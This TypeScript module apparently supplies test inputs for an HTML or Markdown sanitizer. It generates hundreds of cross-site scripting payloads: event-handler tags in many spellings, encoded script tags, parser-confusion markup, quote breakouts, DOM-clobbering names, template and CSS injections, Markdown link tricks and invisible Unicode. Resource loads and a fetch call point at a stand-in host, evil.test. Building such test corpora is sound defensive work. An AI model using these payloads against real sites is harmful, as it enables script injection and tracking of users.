/**
 * Texts that become scripts, requests or other markup where somebody puts them into a page as
 * anything but text. Made from classes, so that each is tried in many spellings.
 *
 * A script among them calls `hit()`, a request goes to {@linkcode EVIL}.
 *
 * @module
 */
import { ADDRESSES } from "./hostile_address.ts";

/** Where nothing of ours may ask for anything. */
export const EVIL = "//evil.test";

/** Elements that run something by themselves, with the attribute that makes them. */
const STARTERS: readonly (readonly [open: string, event: string])[] = [
  ["img src=x", "onerror"],
  ["img src=data:,", "onerror"],
  ["img srcset=x", "onerror"],
  ["image src=x", "onerror"],
  ["svg", "onload"],
  ["body", "onload"],
  ["body", "onpageshow"],
  ["iframe", "onload"],
  ["iframe srcdoc=x", "onload"],
  ["object data=x", "onerror"],
  ["embed src=x", "onload"],
  ["video src=x", "onerror"],
  ["audio src=x", "onerror"],
  ["input autofocus", "onfocus"],
  ["textarea autofocus", "onfocus"],
  ["select autofocus", "onfocus"],
  ["button autofocus", "onfocus"],
  ["a href=x autofocus", "onfocus"],
  ["p tabindex=0 autofocus", "onfocus"],
  ["p contenteditable autofocus", "onfocus"],
  ["details open", "ontoggle"],
  ["marquee", "onstart"],
  ["style", "onload"],
  ["link rel=stylesheet href=x", "onerror"],
  ["script src=x", "onerror"],
  ["input type=image src=x", "onerror"],
  ["p style=animation:x", "onanimationstart"],
  ["p style=transition:1s", "ontransitionend"],
];
/** Ways to spell the same element; `o` is its open tag, `e` the event, `c` the call. */
const SPELLINGS: readonly ((o: string, e: string, c: string) => string)[] = [
  (o, e, c) => `<${o} ${e}=${c}>`,
  (o, e, c) => `<${o} ${e}="${c}">`,
  (o, e, c) => `<${o} ${e}='${c}'/>`,
  (o, e, c) => `<${o}\n${e}\n=\n"${c}">`,
  (o, e, c) => `<${o}\t${e}=${c}\t>`,
  (o, e, c) => `<${o}\f${e}=${c}\f>`,
  (o, e, c) => `<${o} x="/"${e}=${c}>`,
  (o, e, c) => `<${o.toUpperCase()} ${e.toUpperCase()}=${c}>`,
  (o, e, c) => `<${o} ${e.replace("on", "oN")}="${c.replace("(", "&lpar;")}">`,
  (o, e, c) => `<${o} ${e}="&#104;${c.slice(1)}">`,
  (o, e, c) => `<${o} ${e}="${c}"`,
  (o, e, c) => `"><${o} ${e}=${c}>`,
  (o, e, c) => `'><${o} ${e}=${c}>`,
  (o, e, c) => `</textarea></title></style></script><${o} ${e}=${c}>`,
];

const SCRIPTS: readonly string[] = [
  "<script>hit()</script>",
  "<SCRIPT>hit()</SCRIPT>",
  "<script >hit()</script\t>",
  "<script/x>hit()</script>",
  "<scr<script>ipt>hit()</scr</script>ipt>",
  `<script src=${EVIL}/a.js></script>`,
  `<script type=module>import "${EVIL}/a.js"</script>`,
  "<script>hit()//",
  "<!--<script>hit()</script>-->",
  "--><script>hit()</script>",
  "]]><script>hit()</script>",
  "<![CDATA[<script>hit()</script>]]>",
  "<?xml version='1.0'?><script>hit()</script>",
  "<!doctype x [<!entity y '<script>hit()</script>'>]>&y;",
  "</script><script>hit()</script>",
  "\u2028<script>hit()</script>\u2029",
  "<script>\u2028hit()</script>",
  "\0<script>hit()</script>",
  "<scr\0ipt>hit()</scr\0ipt>",
  "＜script＞hit()＜/script＞",
  "+ADw-script+AD4-hit()+ADw-/script+AD4-",
  "%3Cscript%3Ehit()%3C/script%3E",
  "&lt;script&gt;hit()&lt;/script&gt;",
  "&#x3c;script&#x3e;hit()&#x3c;/script&#x3e;",
  "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
  "\\x3cscript\\x3ehit()\\x3c/script\\x3e",
];

/** Where one kind of markup begins in another, and parsers have disagreed what it is. */
const MIXED: readonly string[] = [
  ...["script", "animate onbegin=hit() attributeName=x dur=1s", "set onbegin=hit() attributeName=x"]
    .flatMap((
      inner,
    ) => [`<svg><${inner}>hit()</${inner.split(" ")[0]}></svg>`, `<svg><${inner}/>`]),
  "<svg><a xlink:href=javascript:hit()><text y=20>x</text></a></svg>",
  "<svg><use href=data:image/svg+xml,<svg/onload=hit()>#x></svg>",
  "<svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>",
  "<svg><style><img src=x onerror=hit()></style></svg>",
  "<svg><title><img src=x onerror=hit()></title></svg>",
  "<svg><desc><style><a title='</style><img src=x onerror=hit()>'></style></desc></svg>",
  "<svg><image href=//evil.test/svg.png></svg>",
  "<svg><feImage href=//evil.test/fe.png></feImage></svg>",
  "<svg><discard onbegin=hit()></svg>",
  '<svg></p><style><a id="</style><img src=x onerror=hit()>">',
  "<math><mtext><table><mglyph><style><img src=x onerror=hit()></style></mglyph></table></mtext></math>",
  "<math><mi xlink:href=javascript:hit()>x</mi></math>",
  "<math><maction actiontype=statusline xlink:href=javascript:hit()>x</maction></math>",
  "<math href=javascript:hit()>x</math>",
  "<math><annotation-xml encoding=text/html><img src=x onerror=hit()></annotation-xml></math>",
  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  "<template><img src=x onerror=hit()></template>",
  "<template shadowrootmode=open><img src=x onerror=hit()></template>",
  "<p><template shadowrootmode=closed><script>hit()</script></template></p>",
  '<xmp><p title="</xmp><img src=x onerror=hit()>">',
  '<noembed><p title="</noembed><img src=x onerror=hit()>">',
  "<plaintext><img src=x onerror=hit()>",
  "<table><img src=x onerror=hit()></table>",
  "<table><td background=//evil.test/td.png>",
  "<select><img src=x onerror=hit()></select>",
  "<frameset onload=hit()><frame src=javascript:hit()></frameset>",
  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit()>",
  "<a><a><table><tr><a><img src=x onerror=hit()>",
  "<listing>&lt;img src=x onerror=hit()&gt;</listing>",
  "<p title='`'><img src=x onerror=hit()>",
  "<keygen autofocus onfocus=hit()>",
  "<isindex type=image src=x onerror=hit()>",
  "<portal src=javascript:hit()></portal>",
  "<dialog open onclose=hit()><form method=dialog><button autofocus></form></dialog>",
  "<p popover id=x ontoggle=hit()></p><button popovertarget=x autofocus>x</button>",
  "<input type=hidden oncontentvisibilityautostatechange=hit() style=content-visibility:auto>",
  "<p oncontentvisibilityautostatechange=hit() style=display:block;content-visibility:auto>x</p>",
];

/** Markup that asks for something. */
const LOADERS: readonly string[] = [
  `<img src=${EVIL}/img.png>`,
  `<img srcset="${EVIL}/srcset.png 1x">`,
  `<picture><source srcset=${EVIL}/source.png><img></picture>`,
  `<video poster=${EVIL}/poster.png>`,
  `<audio src=${EVIL}/audio.mp3 preload=auto>`,
  `<video><track default src=${EVIL}/track.vtt></video>`,
  `<iframe src=${EVIL}/frame></iframe>`,
  `<iframe srcdoc="<img src=${EVIL}/doc.png>"></iframe>`,
  `<object data=${EVIL}/object></object>`,
  `<embed src=${EVIL}/embed>`,
  `<link rel=stylesheet href=${EVIL}/style.css>`,
  `<link rel=prefetch href=${EVIL}/prefetch>`,
  `<link rel=preload as=image href=${EVIL}/preload.png>`,
  `<link rel=dns-prefetch href=${EVIL}>`,
  `<link rel=manifest href=${EVIL}/manifest.json>`,
  `<link rel=icon href=${EVIL}/icon.png>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}/refresh">`,
  `<base href=${EVIL}/>`,
  `<body background=${EVIL}/body.png>`,
  `<input type=image src=${EVIL}/input.png>`,
  `<style>@import "${EVIL}/import.css";</style>`,
  `<style>*{background:url(${EVIL}/css.png)}</style>`,
  `<p style="background:url(${EVIL}/inline.png)">x</p>`,
  `<p style="background:image-set('${EVIL}/set.png' 1x)">x</p>`,
  `<a href=x ping=${EVIL}/ping>x</a>`,
  `<form action=${EVIL}/form><button autofocus>x</button></form>`,
  `<script>fetch("${EVIL}/fetch")</script>`,
  `<img src=x onerror='new Image().src="${EVIL}/beacon.png"'>`,
];

/** What breaks out of quotes and of what is around it. */
const BREAKS: readonly string[] = [
  '"',
  "'",
  "`",
  ">",
  "/>",
  '">',
  "'>",
  "` ",
  '\\"',
  "\\'",
  "-->",
  "*/",
]
  .flatMap((end) => [
    `${end} onmouseover=hit() autofocus onfocus=hit() x=${end}`,
    `${end} style=animation:x onanimationstart=hit() x=${end}`,
    `x${end};hit();${end}`,
  ]);

/** Names that stand for something else in a page. */
const NAMES: readonly string[] = [
  ...["__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty"],
  ...["innerHTML", "attributes", "parentNode", "childNodes", "nodeName", "shadowRoot", "cookie"],
  ...["location", "document", "customElements", "stage", "desk", "then", "Symbol.iterator"],
];
const CLOBBERS: readonly string[] = NAMES.flatMap((name) => [
  name,
  `<img name=${name}>`,
  `<form id=${name}><input name=${name}></form>`,
  `{"${name}":{"innerHTML":"<img src=x onerror=hit()>"}}`,
]);

/** What templates and their engines take for their own. */
const TEMPLATES: readonly string[] = [
  "${hit()}",
  "`${hit()}`",
  "{{hit()}}",
  "{{constructor.constructor('hit()')()}}",
  "#{hit()}",
  "<%= hit() %>",
  "{%raw%}<script>hit()</script>",
  "<!--?lit$0$--><img src=x onerror=hit()>",
  "<?lit$123456789$>",
  "lit$123456789$",
  "$lit$=hit()",
  "@click=hit()",
  ".innerHTML=<img src=x onerror=hit()>",
  "?hidden=true",
  "javascript:/*--></title></style></textarea></script><svg/onload=hit()>",
];

/** Styles that load or run something where a colour is expected. */
const STYLES: readonly string[] = [
  `url(${EVIL}/a.png)`,
  `red;background:url(${EVIL}/a.png)`,
  `red;}*{background:url(${EVIL}/a.png)}`,
  `#fff}</style><script>hit()</script>`,
  `expression(hit())`,
  `url("javascript:hit()")`,
  `red;-moz-binding:url(${EVIL}/a.xml#x)`,
  `red;behavior:url(${EVIL}/a.htc)`,
  `@import "${EVIL}/a.css"`,
  `\\75 rl(${EVIL}/a.png)`,
  `var(--x,url(${EVIL}/a.png))`,
  `image-set("${EVIL}/a.png" 1x)`,
  `red;cursor:url(${EVIL}/a.cur),auto`,
  `red/**/;content:url(${EVIL}/a.png)`,
  `cross-fade(url(${EVIL}/a.png),red,50%)`,
  `red;font:1px x;src:url(${EVIL}/a.woff)`,
];

/** Markdown around an address; `a` is the address. */
const MARKDOWN: readonly ((a: string) => string)[] = [
  (a) => a,
  (a) => `[x](${a})`,
  (a) => `[x](<${a}>)`,
  (a) => `[x](${a} "title")`,
  (a) => `![x](${a})`,
  (a) => `<${a}>`,
  (a) => `[x][y]\n\n[y]: ${a}`,
  (a) => `<a href="${a}">x</a>`,
];

/** Markdown with markup where a title, a language or a label is. */
const MARKDOWN_PARTS: readonly string[] = [
  '[x](https://a.example "onmouseover=hit() x=")',
  "[x](https://a.example '\"><img src=x onerror=hit()>')",
  '[x](https://a.example"onmouseover="hit())',
  "[<img src=x onerror=hit()>](https://a.example)",
  "![<img src=x onerror=hit()>](x)",
  `![x](${EVIL}/image.png)`,
  `![x](https:${EVIL}/image.png)`,
  `[![x](https:${EVIL}/image.png)](https://a.example)`,
  "```<img src=x onerror=hit()>\ncode\n```",
  '```js" onmouseover=hit()\ncode\n```',
  "```__proto__\ncode\n```",
  "```constructor\ncode\n```",
  "```js\n</code></pre><img src=x onerror=hit()>\n```",
  "`<img src=x onerror=hit()>`",
  "**<img src=x onerror=hit()>**",
  "> <img src=x onerror=hit()>",
  "- <script>hit()</script>",
  "# <svg onload=hit()>",
  "| a |\n|---|\n| <img src=x onerror=hit()> |",
  "<details open ontoggle=hit()>\n\n# x\n</details>",
  'https://a.example/"onmouseover=hit()',
  "https://a.example/<img/src=x/onerror=hit()>",
  "https://javascript:hit()@a.example/",
  "mailto:a@b.example?subject=<img src=x onerror=hit()>",
  "[x](https://a.example/%0d%0aset-cookie:a=b)",
  "[__proto__]: javascript:hit()\n\n[x][__proto__]",
];

/** Directives that find a sentence again. */
const FRAGMENTS: readonly string[] = [
  ":~:text=<img src=x onerror=hit()>",
  "text=%3Cimg%20src=x%20onerror=hit()%3E",
  "text=a,-b&text=<svg onload=hit()>",
  "#:~:text=javascript:hit()",
  'text="><script>hit()</script>',
  "//evil.test/#:~:text=a",
  "javascript:hit()//#:~:text=a",
];

/** Signs that turn, hide or glue what stands beside them. */
const SIGNS = [
  "\u202e",
  "\u2066",
  "\u200b",
  "\u200d",
  "\ufeff",
  "\u00ad",
  "\u0301".repeat(50),
  "\ud800",
];
const SIGNED: readonly string[] = SIGNS.flatMap((sign) =>
  ["<img src=x onerror=hit()>", "[x](javascript:hit())", "<script>hit()</script>", "Author"]
    .map((text) => text.replace(/^(.{2})/, `$1${sign}`))
    .concat(`${sign}<img src=x onerror=hit()>${sign}`)
);

/** All of them, each once. */
export const HOSTILE_MARKUP: readonly string[] = [
  ...new Set([
    ...STARTERS.flatMap(([open, event]) => SPELLINGS.map((spell) => spell(open, event, "hit()"))),
    ...SCRIPTS,
    ...MIXED,
    ...LOADERS,
    ...BREAKS,
    ...CLOBBERS,
    ...TEMPLATES,
    ...STYLES,
    ...ADDRESSES.flatMap((address) => MARKDOWN.map((write) => write(address))),
    ...MARKDOWN_PARTS,
    ...FRAGMENTS,
    ...SIGNED,
  ]),
];
